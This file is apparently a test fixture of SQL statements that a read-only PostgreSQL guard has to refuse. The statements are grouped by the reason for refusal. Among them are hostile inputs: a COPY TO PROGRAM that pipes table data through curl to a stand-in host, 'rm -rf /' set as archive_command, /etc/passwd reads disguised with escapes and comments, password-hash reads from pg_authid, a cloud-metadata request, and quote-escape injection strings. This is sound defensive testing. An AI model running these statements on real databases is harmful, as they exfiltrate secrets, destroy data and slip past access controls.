-- Statements that must be refused before they reach PostgreSQL.
-- Each begins at a line `--! reason`, with the reason that the policy gives.
--! statement
INSERT INTO accounts VALUES (1)
--! statement
UPDATE accounts SET balance = 0
--! statement
DELETE FROM accounts
--! statement
TRUNCATE accounts
--! statement
MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN DELETE
--! statement
DROP TABLE accounts
--! statement
CREATE TABLE loot AS SELECT * FROM accounts
--! statement
SELECT * INTO loot FROM accounts
--! statement
SELECT * INTO TEMP loot FROM accounts
--! statement
SELECT 1 AS a INTO loot UNION ALL SELECT 2
--! statement
CREATE TEMP TABLE loot (a int)
--! statement
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM accounts RETURNING 1'
--! statement
ALTER SYSTEM SET archive_command = 'rm -rf /'
--! statement
ALTER ROLE postgres SUPERUSER
--! statement
GRANT ALL ON accounts TO public
--! statement
COPY accounts TO '/tmp/loot'
--! statement
COPY (SELECT * FROM accounts) TO PROGRAM 'curl -d @- http://evil.example'
--! statement
COPY accounts FROM STDIN
--! statement
DO $$ BEGIN DELETE FROM accounts; END $$
--! statement
CALL pay_everyone()
--! statement
NOTIFY channel, 'payload'
--! statement
LISTEN channel
--! statement
LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE
--! statement
PREPARE p AS DELETE FROM accounts
--! statement
EXECUTE p
--! statement
DEALLOCATE ALL
--! statement
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM accounts
--! statement
FETCH ALL FROM c
--! statement
SET TRANSACTION READ WRITE
--! statement
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
--! statement
SET statement_timeout = 0
--! statement
RESET ALL
--! statement
BEGIN READ WRITE
--! statement
COMMIT
--! statement
ROLLBACK
--! statement
DISCARD ALL
--! statement
VACUUM FULL accounts
--! statement
ANALYZE accounts
--! statement
CHECKPOINT
--! statement
REINDEX DATABASE app
--! statement
REFRESH MATERIALIZED VIEW totals
--! statement
LOAD 'auto_explain'
--! statement
CREATE EXTENSION dblink
--! statement
SECURITY LABEL ON TABLE accounts IS 'x'
--! statement
COMMENT ON TABLE accounts IS 'x'
--! statement
EXPLAIN ANALYZE DELETE FROM accounts
--! statement
EXPLAIN (ANALYZE, COSTS OFF) INSERT INTO accounts VALUES (1)
--! statement
EXPLAIN ANALYZE CREATE TABLE loot AS SELECT 1
--! statement
EXPLAIN ANALYZE EXECUTE p
--! statement
EXPLAIN ANALYZE WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement
WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement
WITH a AS (SELECT 1), d AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM a
--! statement
SELECT * FROM (WITH i AS (INSERT INTO accounts VALUES (1) RETURNING *) SELECT * FROM i) x
--! multiple_statements
SELECT 1; DROP TABLE accounts
--! multiple_statements
SELECT 1; SELECT 2
--! multiple_statements
SELECT 1;;; COMMIT; SELECT pg_sleep(1)
--! multiple_statements
COMMIT; BEGIN READ WRITE; DELETE FROM accounts
--! locking
SELECT * FROM accounts FOR UPDATE
--! locking
SELECT * FROM accounts FOR NO KEY UPDATE SKIP LOCKED
--! locking
SELECT * FROM accounts FOR SHARE
--! locking
SELECT * FROM (SELECT * FROM accounts FOR KEY SHARE) x
--! locking
SELECT 1 WHERE EXISTS (SELECT 1 FROM accounts FOR UPDATE NOWAIT)
--! locking
WITH l AS MATERIALIZED (SELECT * FROM accounts FOR UPDATE) SELECT count(*) FROM l
--! function
SELECT lo_create(424242)
--! function
SELECT lo_from_bytea(424243, 'x')
--! function
SELECT lo_unlink(424242)
--! function
SELECT lo_import('/etc/passwd')
--! function
SELECT lo_export(424242, '/tmp/loot')
--! function
SELECT lo_put(1, 0, 'x')
--! function
SELECT pg_read_file('/etc/passwd')
--! function
SELECT pg_read_binary_file('/etc/passwd')
--! function
SELECT * FROM pg_ls_dir('/')
--! function
SELECT (pg_stat_file('/etc/passwd')).size
--! function
SELECT pg_catalog.pg_read_file('/etc/passwd')
--! function
SELECT "pg_read_file"('/etc/passwd')
--! function
SELECT "pg_catalog"."pg_read_file"('/etc/passwd')
--! function
SELECT U&"pg\005fread\005ffile"('/etc/passwd')
--! function
SELECT U&"pg!005fread!005ffile" UESCAPE '!' ('/etc/passwd')
--! function
SELECT PG_READ_FILE('/etc/passwd')
--! function
SELECT pg_read_file /* a comment */ ('/etc/passwd')
--! function
SELECT pg_read_file
-- a comment
('/etc/passwd')
--! function
SELECT ('/etc/passwd'::text).pg_read_file
--! function
SELECT ('/etc'::text)."pg_ls_dir"
--! function
SELECT f.pg_ls_dir FROM unnest(ARRAY['/etc']) f
--! function
SELECT f.pg_read_file FROM (SELECT '/etc/passwd'::text) AS s(p), LATERAL unnest(ARRAY[p]) f
--! function
SELECT (424242::oid).lo_unlink
--! function
SELECT ((424242::oid).lo_create)::text
--! function
SELECT 1 FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3)) AS x
--! function
SELECT 1 ORDER BY (SELECT pg_read_file('/etc/passwd'))
--! function
SELECT 1 LIMIT (SELECT lo_create(424244)::int)
--! function
SELECT 1 GROUP BY lo_create(424245)
--! function
SELECT count(*) FILTER (WHERE lo_create(424246) > 0) FROM generate_series(1, 1)
--! function
SELECT sum(1) OVER (ORDER BY lo_create(424247))
--! function
SELECT CASE WHEN true THEN pg_notify('c', 'p') END
--! function
SELECT 1 FROM generate_series(1, 2) g JOIN generate_series(1, 2) h ON lo_create(424248 + g) > 0
--! function
VALUES (lo_create(424249))
--! function
SELECT ARRAY[lo_create(424250)]
--! function
SELECT ROW(lo_create(424251))
--! function
SELECT (ARRAY[1, 2])[lo_create(424252)::int]
--! function
SELECT json_object('a': lo_create(424253))
--! function
SELECT xmlelement(name a, lo_create(424254))
--! function
EXPLAIN ANALYZE SELECT lo_create(424255)
--! function
WITH RECURSIVE r(n) AS (SELECT lo_create(424256)::int UNION ALL SELECT n + 1 FROM r WHERE n < 0) SELECT * FROM r
--! function
SELECT set_config('statement_timeout', '0', false)
--! function
SELECT set_config('transaction_read_only', 'off', true)
--! function
SELECT nextval('accounts_id_seq')
--! function
SELECT setval('accounts_id_seq', 1)
--! function
SELECT pg_notify('channel', 'payload')
--! function
SELECT pg_advisory_lock(1)
--! function
SELECT pg_try_advisory_xact_lock_shared(1)
--! function
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
--! function
SELECT pg_cancel_backend(1)
--! function
SELECT pg_reload_conf()
--! function
SELECT pg_rotate_logfile()
--! function
SELECT pg_promote()
--! function
SELECT pg_switch_wal()
--! function
SELECT pg_create_restore_point('x')
--! function
SELECT pg_create_physical_replication_slot('x')
--! function
SELECT pg_create_logical_replication_slot('x', 'test_decoding')
--! function
SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)
--! function
SELECT pg_logical_emit_message(false, 'a', 'b')
--! function
SELECT pg_replication_origin_create('x')
--! function
SELECT pg_export_snapshot()
--! function
SELECT pg_stat_reset()
--! function
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
--! function
SELECT txid_current()
--! function
SELECT pg_current_xact_id()
--! function
SELECT pg_hba_file_rules()
--! function
SELECT query_to_xml('SELECT lo_create(424257)', true, true, '')
--! function
SELECT table_to_xml('pg_authid', true, true, '')
--! function
SELECT database_to_xml(true, true, '')
--! function
SELECT cursor_to_xml('c', 1, true, true, '')
--! function
SELECT * FROM ts_stat('SELECT lo_create(424258)::text::tsvector')
--! function
SELECT ts_rewrite('a & b'::tsquery, 'SELECT lo_create(424264)::text::tsquery, NULL::tsquery')
--! function
SELECT * FROM dblink('dbname=app', 'DELETE FROM accounts') AS t(a int)
--! function
SELECT dblink_exec('dbname=app', 'DELETE FROM accounts')
--! function
SELECT public.dblink_connect('dbname=app')
--! function
SELECT * FROM crosstab('SELECT lo_create(1)::text, 1, 2') AS t(a text, b int)
--! function
SELECT * FROM crosstab(concat('DELETE FROM ', 'accounts')) AS t(a text, b int)
--! function
SELECT * FROM crosstab('SELECT 1, 2, 3; COMMIT') AS t(a int, b int)
--! function
SELECT * FROM crosstab('SELECT 1, 2, 3', 'DELETE FROM accounts RETURNING 1') AS t(a int, b int)
--! function
SELECT query_to_xml($$SELECT query_to_xml('SELECT lo_create(424261)', true, true, '')$$, true, true, '')
--! function
SELECT query_to_xml(query => 'DELETE FROM accounts', nulls => true, tableforest => true, targetns => '')
--! function
SELECT query_to_xml(E'SELECT lo_\x63reate(424262)'::text, true, true, '')
--! function
SELECT ('SELECT lo_create(424263)::text'::text).ts_stat
--! function
SELECT connectby('accounts', 'id', 'parent', '1', 0)
--! function
SELECT http_get('http://169.254.169.254/latest/meta-data/')
--! function
SELECT content FROM http('GET')
--! function
SELECT net.http_post('http://evil.example', '{}')
--! function
SELECT cron.schedule('* * * * *', 'DELETE FROM accounts')
--! function
SELECT aws_s3.query_export_to_s3('SELECT * FROM accounts', 'bucket', 'key')
--! function
SELECT run_command_on_workers('DELETE FROM accounts')
--! function
SELECT pg_file_write('x', 'y', false)
--! function
SELECT pg_prewarm('accounts')
--! function
SELECT binary_upgrade_set_next_pg_type_oid(1::oid)
--! function
SELECT gin_clean_pending_list('i'::regclass)
--! function
SELECT pg_function_of_the_future()
--! relation
SELECT rolname, rolpassword FROM pg_authid
--! relation
TABLE pg_catalog.pg_shadow
--! relation
SELECT * FROM (SELECT umoptions FROM pg_user_mappings) x
--! relation
SELECT * FROM pg_hba_file_rules
--! relation
SELECT subconninfo FROM pg_subscription
--! empty_sql

--! empty_sql
-- nothing but a comment
--! empty_sql
;;
--! syntax
SELEC 1
--! syntax
SELECT 1 FROM
--! syntax
/*!50000 DELETE FROM accounts */ accounts
--! function
SELECT '\' || ' , lo_create(424259) --'
--! function
SELECT E'\'', lo_create(424260) --'
